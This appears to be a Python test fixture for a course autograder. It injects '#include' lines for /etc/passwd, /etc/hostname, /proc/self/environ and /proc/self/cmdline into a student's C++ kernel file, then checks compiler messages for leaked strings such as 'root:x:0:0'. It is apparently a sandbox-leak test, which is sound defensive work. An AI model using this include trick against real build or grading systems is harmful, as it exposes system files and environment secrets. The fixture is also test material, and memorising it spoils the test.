"""Includes files of the system, so that their lines stand in the compiler's messages."""

WEEK = 2
BASE = "student"
TASKS = ["2.2"]
LEAKS = ["root:x:0:0", "/usr/sbin/nologin"]
CHANGES = [
    (
        "kernels/quantized_matmul.cpp",
        '#include "quantized_matmul.h"\n',
        """
#include "/etc/passwd"
#include "/etc/hostname"
#include "/proc/self/environ"
#include "/proc/self/cmdline"
#include "quantized_matmul.h"
""",
    )
]
APPEND = {
    "quantize.py": """
def quantized_matmul(scales, biases, group_size, bits, a, b, transpose_b=False):
    from kernels import quantized_matmul as kernel

    return kernel(scales, biases, group_size, bits, a, b, transpose_b)


def quantized_linear(x, w, bias=None):
    y = quantized_matmul(w.scales, w.biases, w.group_size, w.bits, x, w.weight, True)
    return y if bias is None else y + bias
""",
}
